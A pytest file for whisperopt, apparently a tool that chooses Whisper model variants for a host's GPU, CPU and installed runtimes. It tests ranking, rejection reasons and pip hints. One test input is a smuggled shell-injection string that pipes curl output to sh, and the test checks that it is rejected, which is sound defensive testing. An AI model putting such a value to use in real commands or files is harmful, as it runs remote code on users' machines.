"""Who gets what, and why."""

import itertools
import pkgutil
import random
from typing import Any

import msgspec
import pytest

from tests.selection import releases
from tests.selection.deciding import accepted, decide, rejected, timed
from tests.selection.releases import catalog, evidence, host, variant
from whisperopt import download as fetcher
from whisperopt.backend import Tier
from whisperopt.errors import NothingFitsError
from whisperopt.host import Gpu, Host
from whisperopt.host.distributions import SYSTEM
from whisperopt.release.catalog import encode, parse
from whisperopt.selection.decisions import best, resolve

ON_NVIDIA = "tensorrt-decomposed-fp16 cuda-gqa-fp16 cuda-decomposed-fp16"
ON_CPU = "cpu-gqa-int8 cpu-gqa-fp32"
PIP = "pip install 'whisperopt[{}]'"


def test_the_order_of_the_catalog_does_not_matter() -> None:
    shuffled = list(releases.every_target())
    expected = decide(host("rtx4070-windows"), *shuffled)
    random.Random(0).shuffle(shuffled)
    assert decide(host("rtx4070-windows"), *shuffled) == expected


def test_a_measurement_on_this_host_class_beats_the_order_of_targets() -> None:
    a100 = host("a100-linux")
    cuda = variant("cuda-gqa-fp16", tier=Tier.MEASURED, evidence=(evidence(a100, "cuda", 210.4),))
    decisions = decide(a100, variant("tensorrt-decomposed-fp16"), cuda)
    assert accepted(decisions) == ["cuda-gqa-fp16", "tensorrt-decomposed-fp16"]
    assert decisions[0].reason == "measured here: 210 ms median"


def test_a_measurement_elsewhere_is_no_measurement_here() -> None:
    proof = (evidence(host("a100-linux"), "cuda", 1.0),)
    cuda = variant("cuda-gqa-fp16", tier=Tier.MEASURED, evidence=proof)
    decisions = decide(host("rtx4070-windows"), cuda, variant("tensorrt-decomposed-fp16"))
    assert accepted(decisions) == ["tensorrt-decomposed-fp16", "cuda-gqa-fp16"]
    assert "measured on other hosts" in decisions[1].reason
    risky = msgspec.structs.replace(cuda, selectable_from=Tier.MEASURED)
    assert accepted(decide(host("rtx4070-windows"), risky)) == []
    assert accepted(decide(host("a100-linux"), risky)) == ["cuda-gqa-fp16"]


def test_an_emulation_on_this_host_class_is_no_measurement() -> None:
    vm = host("plain-vm-linux")
    proof = (evidence(vm, "cpu", 1.0, tier=Tier.EMULATED),)
    emulated = variant("cpu-gqa-fp32", evidence=proof)
    assert "emulated, not measured here" in decide(vm, emulated)[0].reason
    risky = msgspec.structs.replace(emulated, selectable_from=Tier.MEASURED)
    assert accepted(decide(vm, risky)) == []


def test_a_fast_cpu_never_beats_an_unmeasured_gpu() -> None:
    rtx = host("rtx4070-windows")
    cpu = variant("cpu-gqa-fp32", tier=Tier.MEASURED, evidence=(evidence(rtx, "cpu", 0.5),))
    assert accepted(decide(rtx, cpu, variant("cuda-gqa-fp16"))) == [
        "cuda-gqa-fp16",
        "cpu-gqa-fp32",
    ]


def test_the_cpu_provider_of_another_wheel_counts_as_the_same_host_class() -> None:
    vm = host("plain-vm-linux")
    gpu_wheel = msgspec.structs.replace(vm, runtimes={"onnxruntime-gpu": "1.27.0"})
    older = msgspec.structs.replace(vm, runtimes={"onnxruntime-gpu": "1.26.0"})
    cpu = variant("cpu-gqa-fp32", tier=Tier.MEASURED, evidence=(evidence(vm, "cpu", 80.0),))
    assert "measured here: 80 ms" in decide(gpu_wheel, cpu)[0].reason
    assert "not here" in decide(older, cpu)[0].reason


def test_what_is_too_close_to_call_goes_to_the_smaller() -> None:
    variants = (timed("cpu-a", 100, 900), timed("cpu-b", 104, 300), timed("cpu-c", 106, 10))
    decisions = decide(host("plain-vm-linux"), *variants)
    assert accepted(decisions) == ["cpu-b", "cpu-a", "cpu-c"]
    assert "too close to call with 100 ms median, and smaller" in decisions[0].reason


def test_of_the_too_close_and_equally_small_the_faster_goes_first() -> None:
    variants = (timed("cpu-a", 102, 300), timed("cpu-b", 100, 300), timed("cpu-c", 100, 300))
    decisions = decide(host("plain-vm-linux"), *variants)
    assert accepted(decisions) == ["cpu-b", "cpu-c", "cpu-a"]


def test_a_pass_without_timing_comes_after_the_timed() -> None:
    decisions = decide(host("plain-vm-linux"), timed("cpu-a", None, 1), timed("cpu-b", 900, 5))
    assert accepted(decisions) == ["cpu-b", "cpu-a"]
    assert "not timed" in decisions[1].reason


def test_a_failure_on_this_host_class_rejects_with_its_reason() -> None:
    radeon = host("radeon-windows-directml")
    failure = evidence(radeon, "directml", accepted=False, reason="WER rose by 40 points")
    failed = variant("directml-decomposed-fp16", evidence=(failure,))
    decisions = decide(radeon, failed, variant("cpu-gqa-fp32"))
    assert accepted(decisions) == ["cpu-gqa-fp32"]
    assert "WER rose by 40 points" in decisions[1].reason


def test_a_failure_elsewhere_does_not_reject() -> None:
    failure = evidence(host("a100-linux"), "cuda", accepted=False, reason="crashed")
    cuda = variant("cuda-gqa-fp16", evidence=(failure,))
    assert accepted(decide(host("rtx4070-windows"), cuda)) == ["cuda-gqa-fp16"]


def test_a_merely_structural_gpu_variant_is_refused_and_a_cpu_one_comes_last() -> None:
    unproven: dict[str, Any] = {"tier": Tier.STRUCTURAL}
    decisions = decide(
        host("intel-laptop-linux"),
        variant("openvino-decomposed-fp32", **unproven),
        variant("cpu-gqa-fp32"),
        variant("cpu-gqa-int8", ladder_rank=1, caution="rounds", **unproven),
    )
    assert accepted(decisions) == ["cpu-gqa-fp32", "openvino-decomposed-fp32"]
    assert "structural" in decisions[1].reason
    gpu = decide(host("a100-linux"), variant("cuda-gqa-fp16", **unproven))
    assert accepted(gpu) == []
    lenient = variant("cuda-gqa-fp16", selectable_from=Tier.STRUCTURAL, **unproven)
    assert accepted(decide(host("a100-linux"), lenient)) == []


@pytest.mark.parametrize(
    "requires",
    [
        {"vram_mb": 600},
        {"compute_capability": 7},
        {"compute_capability": "newest"},
        {"compute_capability": ""},
        {"cpu_features": "avx2"},
        {"cpu_features": [1]},
    ],
)
def test_a_requirement_that_is_not_understood_rejects(requires: dict[str, Any]) -> None:
    (decision,) = decide(host("a100-linux"), variant("cuda-gqa-fp16", requires=requires))
    assert not decision.accepted
    assert "does not understand" in decision.reason
    assert decision.hint == "Upgrade whisperopt"


def test_instruction_sets_are_required_by_name() -> None:
    needy = variant("cpu-gqa-int8", requires={"cpu_features": ("avx2", "amx_int8")})
    (decision,) = decide(host("plain-vm-linux"), needy)
    assert decision.reason == "needs a CPU with amx_int8"
    content = variant("cpu-gqa-int8", requires={"cpu_features": ("avx2",)})
    assert accepted(decide(host("plain-vm-linux"), content)) == ["cpu-gqa-int8"]


@pytest.mark.parametrize("capability", [None, "", "fast"])
def test_an_unknown_compute_capability_is_not_enough(capability: str | None) -> None:
    gpu = Gpu(vendor="nvidia", name="?", compute_capability=capability)
    machine = msgspec.structs.replace(host("a100-linux"), gpus=(gpu,))
    assert accepted(decide(machine, variant("cuda-gqa-fp16"))) == []


def test_compute_capabilities_are_compared_as_versions() -> None:
    gpu = Gpu(vendor="nvidia", name="NVIDIA B200", compute_capability="10.0")
    machine = msgspec.structs.replace(host("a100-linux"), gpus=(gpu,))
    assert accepted(decide(machine, variant("cuda-gqa-fp16"))) == ["cuda-gqa-fp16"]


def test_the_target_asked_for_is_the_only_one_considered() -> None:
    rtx = host("rtx4070-windows")
    decisions = decide(rtx, *releases.every_target(), target="cuda")
    assert accepted(decisions) == ["cuda-gqa-fp16", "cuda-decomposed-fp16"]
    assert "cuda was asked for" in rejected(decisions)["cpu-gqa-fp32"].reason


def test_the_reason_for_the_target_asked_for_is_named_first() -> None:
    decisions = decide(host("plain-vm-linux"), *releases.every_target(), target="cuda")
    with pytest.raises(NothingFitsError, match="host: cuda-gqa-fp16: this host has no NVIDIA GPU"):
        best(decisions)


def test_the_installable_comes_first_among_the_rejected_and_in_the_error() -> None:
    decisions = decide(host("rtx4070-windows-bare"), *releases.every_target())
    flags = [decision.installable for decision in decisions]
    assert flags == sorted(flags, reverse=True)
    assert decisions[0].variant.target == "tensorrt"
    with pytest.raises(NothingFitsError) as caught:
        best(decisions)
    assert caught.value.exit_code == 3
    assert caught.value.remedy == PIP.format("tensorrt")
    assert "tensorrt-decomposed-fp16: installable" in caught.value.problem


def test_the_hint_removes_a_wheel_that_would_be_overwritten() -> None:
    rtx = msgspec.structs.replace(host("rtx4070-windows"), runtimes={"onnxruntime": "1.27.0"})
    decisions = decide(rtx, *releases.every_target())
    assert accepted(decisions) == ON_CPU.split()
    hint = rejected(decisions)["cuda-gqa-fp16"].hint
    assert hint == "pip uninstall -y onnxruntime && " + PIP.format("cuda")


def with_runtimes(name: str, **runtimes: str) -> Host:
    installed = {runtime.replace("_", "-"): version for runtime, version in runtimes.items()}
    return msgspec.structs.replace(host(name), runtimes=installed)


def test_tensorrt_without_the_gpu_wheel_is_only_installable() -> None:
    rtx = with_runtimes("rtx4070-windows", tensorrt="10.15.1", onnxruntime="1.27.0")
    decisions = decide(rtx, *releases.every_target())
    assert accepted(decisions) == ON_CPU.split()
    refused = rejected(decisions)["tensorrt-decomposed-fp16"]
    assert refused.installable
    assert refused.reason == "installable: onnxruntime-gpu is not installed"
    assert refused.hint == "pip uninstall -y onnxruntime && " + PIP.format("tensorrt")
    bare = rejected(decide(host("rtx4070-windows-bare"), *releases.every_target()))
    reason = bare["tensorrt-decomposed-fp16"].reason
    assert "onnxruntime-gpu" in reason
    assert "tensorrt" in reason
    assert "are not installed" in reason


@pytest.mark.parametrize(
    ("requires", "reason"),
    [
        (">=1.27", None),
        (">=1.30", "needs onnxruntime >=1.30, this host has 1.27.0"),
        ("newest", "does not understand"),
        ("===1'&&curl${IFS}x|sh&&'", "does not understand"),
        (7, "does not understand"),
    ],
)
def test_a_variant_may_need_a_newer_runtime(requires: Any, reason: str | None) -> None:
    needy = variant("cpu-gqa-fp32", requires={"runtime": requires})
    (decision,) = decide(host("plain-vm-linux"), needy)
    assert decision.accepted is (reason is None)
    assert (reason or "") in decision.reason
    if decision.installable:
        assert decision.hint == "pip install 'onnxruntime>=1.30'"


def test_the_version_of_what_stands_in_for_a_runtime_is_not_compared() -> None:
    needy = variant("tensorrt-decomposed-fp16", requires={"runtime": ">=99"})
    a100 = host("a100-linux")
    (refused,) = decide(a100, needy)
    assert "needs tensorrt >=99, this host has 10.15.1" in refused.reason
    system = msgspec.structs.replace(a100, runtimes={**a100.runtimes, "tensorrt": SYSTEM})
    assert accepted(decide(system, needy)) == ["tensorrt-decomposed-fp16"]


def test_a_version_that_whisperopt_cannot_use_is_only_installable() -> None:
    (refused,) = decide(host("old-runtime-linux"), variant("cpu-gqa-fp32"))
    assert refused.installable
    assert refused.reason == "onnxruntime 1.20.1 is installed, >=1.27 is needed"
    assert refused.hint == PIP.format("cpu")


@pytest.mark.parametrize("key", ["cuda", "onnxruntime-gpu"])
def test_what_is_broken_is_passed_over_with_its_reason(key: str) -> None:
    broken = msgspec.structs.replace(host("rtx4070-windows"), broken={key: "it aborts"})
    decisions = decide(broken, *releases.every_target())
    assert accepted(decisions)[0] == "tensorrt-decomposed-fp16"
    refused = rejected(decisions)["cuda-gqa-fp16"]
    assert refused.reason == "does not work on this host: it aborts"
    assert "doctor" in refused.hint


def test_any_gpu_serves_a_variant_for_any_gpu() -> None:
    anything = variant("cpu-x", device="gpu", extra="any", runtime="onnxruntime")
    for name in ("radeon-linux", "m3-macos", "snapdragon-windows"):
        machine = host(name)
        fitting = msgspec.structs.replace(anything, arch=(machine.arch,), os=(machine.os,))
        assert accepted(decide(machine, fitting)) == ["cpu-x"]
    (refused,) = decide(host("plain-vm-linux"), anything)
    assert refused.reason == "this host has no GPU"


def test_wheels_that_overwrite_each_other_serve_the_cpu_only() -> None:
    both = {"onnxruntime": "1.27.0", "onnxruntime_gpu": "1.27.0"}
    rtx = with_runtimes("rtx4070-windows", tensorrt="10.15.1", **both)
    decisions = decide(rtx, *releases.every_target())
    assert accepted(decisions) == ON_CPU.split()
    for target in ("tensorrt", "cuda"):
        (refused, *_) = (d for d in decisions if d.variant.target == target)
        assert refused.reason == "onnxruntime and onnxruntime-gpu overwrite each other's files"
        uninstall = "pip uninstall -y onnxruntime onnxruntime-gpu && "
        assert refused.hint == uninstall + PIP.format(target)
    radeon = with_runtimes(
        "radeon-windows-directml", onnxruntime="1.27.0", onnxruntime_directml="1.24.4"
    )
    decisions = decide(radeon, *releases.every_target())
    assert accepted(decisions) == ON_CPU.split()
    reason = rejected(decisions)["directml-decomposed-fp16"].reason
    assert reason == "onnxruntime and onnxruntime-directml overwrite each other's files"


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"device": "npu"}, "is for a device 'npu' that this whisperopt does not know"),
        ({"tier": "certified"}, "names a tier 'certified' that this whisperopt does not know"),
        ({"selectable_from": "certified"}, "names a tier 'certified'"),
        ({"os": ("haiku",)}, "is for haiku, this host runs linux"),
        ({"arch": ("riscv64", "ppc64le")}, "is for riscv64 and ppc64le, this host is x86_64"),
    ],
)
def test_a_variant_of_a_newer_minor_schema_is_refused_alone(
    changes: dict[str, Any], reason: str
) -> None:
    vm = host("plain-vm-linux")
    made = catalog(variant("cpu-new", size=1, **changes), variant("cpu-gqa-fp32"))
    made = msgspec.structs.replace(made, schema="1.9", device_order=("npu", "nvidia", "cpu"))
    decisions = resolve(parse(encode(made), "catalog.json"), releases.MODEL, vm)
    assert accepted(decisions) == ["cpu-gqa-fp32"]
    refused = rejected(decisions)["cpu-new"]
    assert reason in refused.reason
    assert refused.hint == ("" if "host" in reason else "Upgrade whisperopt")


def test_an_unknown_system_beside_this_one_does_not_matter() -> None:
    both = variant("cpu-new", os=("haiku", "linux"))
    assert accepted(decide(host("plain-vm-linux"), both)) == ["cpu-new"]


def test_evidence_of_an_unknown_tier_is_no_measurement_but_its_failure_counts() -> None:
    vm = host("plain-vm-linux")
    entry = msgspec.structs.replace(evidence(vm, "cpu", 5.0), tier="certified")
    (decision,) = decide(vm, variant("cpu-gqa-fp32", evidence=(entry,)))
    assert "not measured here" in decision.reason
    failed = msgspec.structs.replace(entry, accepted=False, reason="hung")
    (decision,) = decide(vm, variant("cpu-gqa-fp32", evidence=(failed,)))
    assert "hung" in decision.reason


def test_best_is_the_first_accepted() -> None:
    decisions = decide(host("plain-vm-linux"), *releases.every_target())
    assert best(decisions).name == "cpu-gqa-int8"
    with pytest.raises(NothingFitsError, match="no variant of this model"):
        best(())


def test_every_combination_of_tiers_is_ranked_measured_emulated_structural() -> None:
    vm = host("plain-vm-linux")
    made = {
        "cpu-measured": timed("cpu-measured", 5.0, 100),
        "cpu-emulated": variant("cpu-emulated"),
        "cpu-structural": variant("cpu-structural", tier=Tier.STRUCTURAL),
    }
    for order in itertools.permutations(made):
        ranked = [
            msgspec.structs.replace(made[name], ladder_rank=place)
            for place, name in enumerate(order)
        ]
        assert accepted(decide(vm, *ranked)) == list(made)


@pytest.mark.parametrize("name", releases.all_hosts())
def test_every_recorded_host_is_decided_deterministically(name: str) -> None:
    machine = host(name)
    again = msgspec.json.decode(msgspec.json.encode(machine), type=Host)
    variants = releases.every_target()
    assert decide(machine, *variants) == decide(again, *variants)
    msgspec.json.encode(decide(machine, *variants))


def test_no_public_name_of_the_package_hides_a_module_of_it() -> None:
    modules = {module.name for module in pkgutil.iter_modules(fetcher.__path__)}
    assert {"delivery", "transport"} <= modules
    assert not modules & set(fetcher.__all__)


def test_wrong_files_are_refused_on_every_host_and_not_only_where_that_was_seen() -> None:
    elsewhere = releases.host("a100-linux")
    seen = releases.evidence(elsewhere, "cpu", accepted=False, tier=Tier.STRUCTURAL, reason="bent")
    wrong = variant("cpu-gqa-fp32", tier=Tier.MEASURED, evidence=(seen,))
    (decision,) = decide(releases.host("plain-vm-linux"), wrong)
    assert (decision.accepted, decision.reason) == (False, "its files are wrong: bent")
